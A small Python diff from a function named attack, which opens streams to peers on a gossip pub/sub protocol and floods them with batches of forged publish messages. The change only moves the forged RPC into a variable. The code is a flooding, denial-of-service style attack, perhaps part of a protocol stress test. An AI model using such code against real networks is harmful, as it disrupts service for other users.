@@ -40,7 +40,6 @@ async def attack(target: Target) -> None:
             peer = peers[number % len(peers)]
             if peer not in streams:
                 streams[peer] = await quietly(host.new_stream, peer, [MESHSUB])
-            if streams[peer] is None or await quietly(
-                streams[peer].write, rpc(publish=[_message(topic) for _ in range(AT_ONCE)])
-            ) is None:
+            forged = rpc(publish=[_message(topic) for _ in range(AT_ONCE)])
+            if streams[peer] is None or await quietly(streams[peer].write, forged) is None:
                 streams.pop(peer, None)
